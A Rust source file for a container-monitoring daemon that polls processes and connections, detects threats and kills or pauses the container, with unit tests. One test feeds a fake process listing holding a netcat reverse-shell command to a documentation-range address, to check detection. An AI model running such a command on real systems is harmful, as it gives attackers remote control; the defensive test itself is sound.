//! Poll pipeline: periodic snapshot, detect, persist, respond
//!
//! A started daemon is `Running` until it is stopped (`Stopped`) or the
//! loop exits on its own after the container was killed (`Killed`).

use crate::audit::AuditLog;
use crate::collector::{Collector, CollectorConfig};
use crate::control::ContainerControl;
use crate::detection::{Detector, DetectorConfig};
use crate::error::{MonitorError, Result};
use crate::health::{components, HealthRegistry};
use crate::models::ThreatAction;
use crate::observability::{MonitorMetrics, StructuredLogger};
use crate::response::Responder;
use crate::tables::ThreatTables;
use ipnetwork::IpNetwork;
use std::net::IpAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::sync::{broadcast, watch};
use tokio::task::JoinHandle;
use tokio::time::{interval, MissedTickBehavior};
use tracing::{debug, info, warn};

const PIPELINE: &str = "poll";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DaemonState {
    Running,
    /// Loop left on request
    Stopped,
    /// Loop left because the responder killed the container
    Killed,
}

#[derive(Debug, Clone)]
pub struct DaemonConfig {
    pub container_name: String,
    /// Resolved through the container runtime at start when unset
    pub container_ip: Option<IpAddr>,
    pub workspace_path: Option<String>,
    pub poll_interval: Duration,
    pub allowlist: Vec<IpNetwork>,
    pub detector: DetectorConfig,
    pub cgroup_root: PathBuf,
    pub proc_root: PathBuf,
    pub stop_timeout: Duration,
}

impl Default for DaemonConfig {
    fn default() -> Self {
        Self {
            container_name: String::new(),
            container_ip: None,
            workspace_path: None,
            poll_interval: Duration::from_secs(2),
            allowlist: Vec::new(),
            detector: DetectorConfig::default(),
            cgroup_root: PathBuf::from("/sys/fs/cgroup"),
            proc_root: PathBuf::from("/proc"),
            stop_timeout: Duration::from_secs(5),
        }
    }
}

/// Assembled poll pipeline, not yet running
pub struct Daemon {
    config: DaemonConfig,
    control: Arc<dyn ContainerControl>,
    responder: Arc<Responder>,
    audit_log: Option<Arc<AuditLog>>,
    tables: Arc<ThreatTables>,
    health: Option<HealthRegistry>,
}

impl Daemon {
    pub fn builder() -> DaemonBuilder {
        DaemonBuilder::new()
    }

    /// Spawn the polling loop
    pub async fn start(self) -> Result<DaemonHandle> {
        let mut config = self.config;

        if config.container_ip.is_none() {
            match self.control.ip(&config.container_name).await {
                Ok(ip) => config.container_ip = ip,
                Err(e) => warn!(
                    container = %config.container_name,
                    error = %e,
                    "Could not resolve container IP, connections will not be filtered"
                ),
            }
        }

        let collector = Collector::new(
            CollectorConfig {
                container_name: config.container_name.clone(),
                container_ip: config.container_ip,
                workspace_path: config.workspace_path.clone(),
                allowlist: config.allowlist.clone(),
                cgroup_root: config.cgroup_root.clone(),
                proc_root: config.proc_root.clone(),
            },
            self.control,
            self.tables.clone(),
        );
        let detector = Detector::new(config.detector.clone(), self.tables);
        let logger = StructuredLogger::new(config.container_name.clone());

        let (shutdown_tx, shutdown_rx) = broadcast::channel(1);
        let (state_tx, state_rx) = watch::channel(DaemonState::Running);

        let pipeline = PollPipeline {
            collector,
            detector,
            responder: self.responder,
            audit_log: self.audit_log,
            health: self.health,
            metrics: MonitorMetrics::new(),
            logger: logger.clone(),
        };

        logger.log_startup(PIPELINE, env!("CARGO_PKG_VERSION"));
        let poll_interval = config.poll_interval;
        let task = tokio::spawn(async move {
            let exit = pipeline.run(poll_interval, shutdown_rx).await;
            let reason = match exit {
                DaemonState::Killed => "container killed",
                _ => "stop requested",
            };
            pipeline.logger.log_shutdown(PIPELINE, reason);
            let _ = state_tx.send(exit);
        });

        Ok(DaemonHandle {
            shutdown_tx,
            task,
            state: state_rx,
            container_ip: config.container_ip,
            stop_timeout: config.stop_timeout,
        })
    }
}

struct PollPipeline {
    collector: Collector,
    detector: Detector,
    responder: Arc<Responder>,
    audit_log: Option<Arc<AuditLog>>,
    health: Option<HealthRegistry>,
    metrics: MonitorMetrics,
    logger: StructuredLogger,
}

impl PollPipeline {
    /// Returns the state the loop exited into
    async fn run(&self, poll_interval: Duration, mut shutdown: broadcast::Receiver<()>) -> DaemonState {
        info!(
            container = %self.collector.container_name(),
            interval_ms = poll_interval.as_millis() as u64,
            "Starting poll loop"
        );

        let mut ticker = interval(poll_interval);
        ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);

        loop {
            tokio::select! {
                _ = ticker.tick() => {
                    if self.tick().await {
                        return DaemonState::Killed;
                    }
                }
                _ = shutdown.recv() => {
                    return DaemonState::Stopped;
                }
            }
        }
    }

    /// One poll; true once the container has been killed
    async fn tick(&self) -> bool {
        let start = Instant::now();
        let mut snapshot = self.collector.collect().await;
        let elapsed = start.elapsed();

        self.metrics.observe_collection_latency(elapsed.as_secs_f64());
        self.metrics.inc_snapshots_collected();
        self.metrics.add_collection_errors(snapshot.errors.len());

        let threats = self.detector.analyze(&snapshot);
        snapshot.threats = threats.clone();

        if let Some(health) = &self.health {
            health.record_snapshot(&snapshot).await;
        }

        if let Some(audit) = &self.audit_log {
            if let Err(e) = audit.write_snapshot(&snapshot) {
                warn!(error = %e, "Failed to write snapshot to audit log");
                if let Some(health) = &self.health {
                    health.set_degraded(components::AUDIT_LOG, e.to_string()).await;
                }
                self.responder.report_error(&e);
            }
        }
        self.logger.log_snapshot(&snapshot, elapsed.as_millis());

        for threat in threats {
            match self.responder.handle(threat).await {
                Ok(ThreatAction::Killed) => {
                    debug!("Container killed, leaving poll loop");
                    return true;
                }
                Ok(action) => debug!(action = %action, "Threat handled"),
                Err(e) => {
                    warn!(error = %e, "Failed to respond to threat");
                    if let Some(health) = &self.health {
                        health.set_degraded(components::RESPONDER, e.to_string()).await;
                    }
                    self.responder.report_error(&e);
                }
            }
        }
        false
    }
}

/// Running poll pipeline
pub struct DaemonHandle {
    shutdown_tx: broadcast::Sender<()>,
    task: JoinHandle<()>,
    state: watch::Receiver<DaemonState>,
    container_ip: Option<IpAddr>,
    stop_timeout: Duration,
}

impl DaemonHandle {
    pub fn state(&self) -> DaemonState {
        *self.state.borrow()
    }

    /// Address used to filter connections, after start-time resolution
    pub fn container_ip(&self) -> Option<IpAddr> {
        self.container_ip
    }

    /// Resolves once the loop has exited on its own or been stopped
    pub async fn stopped(&mut self) {
        while *self.state.borrow() == DaemonState::Running {
            if self.state.changed().await.is_err() {
                return;
            }
        }
    }

    /// Signal the loop and wait for it, bounded by the stop timeout
    ///
    /// Returns the final state, `Killed` when the loop had already exited
    /// after a kill.
    pub async fn stop(mut self) -> Result<DaemonState> {
        let _ = self.shutdown_tx.send(());
        match tokio::time::timeout(self.stop_timeout, &mut self.task).await {
            Ok(Ok(())) => {
                let state = *self.state.borrow();
                Ok(state)
            }
            Ok(Err(e)) => Err(MonitorError::ActionFailed {
                action: "stop".to_string(),
                message: e.to_string(),
            }),
            Err(_) => {
                self.task.abort();
                Err(MonitorError::ShutdownTimeout(self.stop_timeout))
            }
        }
    }
}

/// Builder for [`Daemon`]
pub struct DaemonBuilder {
    config: DaemonConfig,
    control: Option<Arc<dyn ContainerControl>>,
    responder: Option<Arc<Responder>>,
    audit_log: Option<Arc<AuditLog>>,
    tables: Option<Arc<ThreatTables>>,
    health: Option<HealthRegistry>,
}

impl Default for DaemonBuilder {
    fn default() -> Self {
        Self::new()
    }
}

impl DaemonBuilder {
    pub fn new() -> Self {
        Self {
            config: DaemonConfig::default(),
            control: None,
            responder: None,
            audit_log: None,
            tables: None,
            health: None,
        }
    }

    pub fn config(mut self, config: DaemonConfig) -> Self {
        self.config = config;
        self
    }

    pub fn container_name(mut self, name: impl Into<String>) -> Self {
        self.config.container_name = name.into();
        self
    }

    pub fn poll_interval(mut self, poll_interval: Duration) -> Self {
        self.config.poll_interval = poll_interval;
        self
    }

    pub fn control(mut self, control: Arc<dyn ContainerControl>) -> Self {
        self.control = Some(control);
        self
    }

    pub fn responder(mut self, responder: Arc<Responder>) -> Self {
        self.responder = Some(responder);
        self
    }

    pub fn audit_log(mut self, audit_log: Arc<AuditLog>) -> Self {
        self.audit_log = Some(audit_log);
        self
    }

    pub fn tables(mut self, tables: Arc<ThreatTables>) -> Self {
        self.tables = Some(tables);
        self
    }

    pub fn health(mut self, health: HealthRegistry) -> Self {
        self.health = Some(health);
        self
    }

    pub fn build(self) -> anyhow::Result<Daemon> {
        if self.config.container_name.is_empty() {
            anyhow::bail!("Container name is required");
        }
        let control = self
            .control
            .ok_or_else(|| anyhow::anyhow!("Container control is required"))?;
        let responder = self
            .responder
            .ok_or_else(|| anyhow::anyhow!("Responder is required"))?;

        Ok(Daemon {
            config: self.config,
            control,
            responder,
            audit_log: self.audit_log,
            tables: self.tables.unwrap_or_default(),
            health: self.health,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::{read_audit_log, AuditEntry};
    use crate::control::fake::FakeContainer;
    use crate::response::{MonitorCallbacks, ResponderConfig};
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tempfile::TempDir;

    const BENIGN_PS: &str = "USER PID PPID COMMAND\nroot 1 0 /sbin/init\ncode 40 1 cargo build\n";

    // 10.47.62.50:40000 -> 10.1.2.3:22 ESTABLISHED
    const PRIVATE_TCP: &str = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n\
   0: 323E2F0A:9C40 0302010A:0016 01 00000000:00000000 00:00000000 00000000  1000        0 1 1 0 20 4 30 10 -1\n";

    fn config(dir: &TempDir) -> DaemonConfig {
        DaemonConfig {
            container_name: "dev".to_string(),
            container_ip: "10.47.62.50".parse().ok(),
            poll_interval: Duration::from_millis(20),
            cgroup_root: dir.path().join("cgroup"),
            proc_root: dir.path().join("proc"),
            ..Default::default()
        }
    }

    fn daemon(
        dir: &TempDir,
        control: Arc<FakeContainer>,
        callbacks: MonitorCallbacks,
    ) -> (Daemon, Arc<AuditLog>, HealthRegistry) {
        let audit = Arc::new(AuditLog::open(dir.path().join("audit.jsonl")).unwrap());
        let responder = Arc::new(
            Responder::new(ResponderConfig::new("dev"), control.clone())
                .with_audit_log(audit.clone())
                .with_callbacks(callbacks),
        );
        let health = HealthRegistry::new();
        let daemon = Daemon::builder()
            .config(config(dir))
            .control(control)
            .responder(responder)
            .audit_log(audit.clone())
            .health(health.clone())
            .build()
            .unwrap();
        (daemon, audit, health)
    }

    #[test]
    fn test_builder_requires_collaborators() {
        assert!(Daemon::builder().build().is_err());
        assert!(Daemon::builder().container_name("dev").build().is_err());
    }

    #[tokio::test]
    async fn test_reverse_shell_kills_and_exits_loop() {
        let dir = TempDir::new().unwrap();
        let control = Arc::new(FakeContainer::default());
        control.respond_to("ps", "USER PID PPID COMMAND\ncode 77 1 nc -e /bin/sh 203.0.113.9 4444\n");
        let (daemon, audit, _) = daemon(&dir, control.clone(), MonitorCallbacks::new());

        let mut handle = daemon.start().await.unwrap();
        tokio::time::timeout(Duration::from_secs(5), handle.stopped())
            .await
            .unwrap();
        assert_eq!(handle.state(), DaemonState::Killed);
        assert!(control.calls().contains(&"stop dev force=true".to_string()));

        let entries = read_audit_log(audit.path()).unwrap();
        match &entries[0] {
            AuditEntry::Snapshot(s) => {
                assert_eq!(s.threats.len(), 1);
                // no cgroup or proc tree in the temp dir
                assert!(!s.errors.is_empty());
            }
            other => panic!("expected snapshot first, got {other:?}"),
        }
        assert!(matches!(&entries[1], AuditEntry::Threat(t) if t.action == ThreatAction::Killed));

        assert_eq!(handle.stop().await.unwrap(), DaemonState::Killed);
    }

    #[tokio::test]
    async fn test_stop_running_daemon() {
        let dir = TempDir::new().unwrap();
        let control = Arc::new(FakeContainer::default());
        control.respond_to("ps", BENIGN_PS);
        let (daemon, audit, health) = daemon(&dir, control, MonitorCallbacks::new());

        let handle = daemon.start().await.unwrap();
        tokio::time::sleep(Duration::from_millis(100)).await;
        assert_eq!(handle.state(), DaemonState::Running);

        assert_eq!(handle.stop().await.unwrap(), DaemonState::Stopped);
        let snapshots = read_audit_log(audit.path())
            .unwrap()
            .into_iter()
            .filter(|e| matches!(e, AuditEntry::Snapshot(_)))
            .count();
        assert!(snapshots >= 2);

        let report = health.health().await;
        assert_eq!(
            report.components[components::COLLECTOR].status,
            crate::health::ComponentStatus::Degraded
        );
    }

    #[tokio::test]
    async fn test_pause_failure_reported_and_polling_continues() {
        let dir = TempDir::new().unwrap();
        std::fs::create_dir_all(dir.path().join("proc/net")).unwrap();
        std::fs::write(dir.path().join("proc/net/tcp"), PRIVATE_TCP).unwrap();

        let control = Arc::new(FakeContainer::default());
        control.respond_to("ps", BENIGN_PS);
        control.fail_pause.store(true, Ordering::SeqCst);

        let errors = Arc::new(AtomicUsize::new(0));
        let counted = errors.clone();
        let callbacks = MonitorCallbacks::new().on_error(move |e| {
            if matches!(e, MonitorError::ActionFailed { .. }) {
                counted.fetch_add(1, Ordering::SeqCst);
            }
        });
        let (daemon, audit, _) = daemon(&dir, control, callbacks);

        let handle = daemon.start().await.unwrap();
        tokio::time::sleep(Duration::from_millis(120)).await;
        assert_eq!(handle.state(), DaemonState::Running);
        handle.stop().await.unwrap();

        // repeats of the same connection are deduplicated, so one failed pause
        assert_eq!(errors.load(Ordering::SeqCst), 1);
        let snapshots = read_audit_log(audit.path())
            .unwrap()
            .into_iter()
            .filter(|e| matches!(e, AuditEntry::Snapshot(_)))
            .count();
        assert!(snapshots >= 2);
    }

    #[tokio::test]
    async fn test_container_ip_resolved_at_start() {
        let dir = TempDir::new().unwrap();
        let control = Arc::new(FakeContainer::with_network("10.47.62.77", "veth9"));
        control.respond_to("ps", BENIGN_PS);
        let (mut daemon, _, _) = daemon(&dir, control.clone(), MonitorCallbacks::new());
        daemon.config.container_ip = None;

        let handle = daemon.start().await.unwrap();
        assert_eq!(handle.container_ip(), "10.47.62.77".parse().ok());
        assert_eq!(control.calls()[0], "ip dev");
        handle.stop().await.unwrap();
    }
}
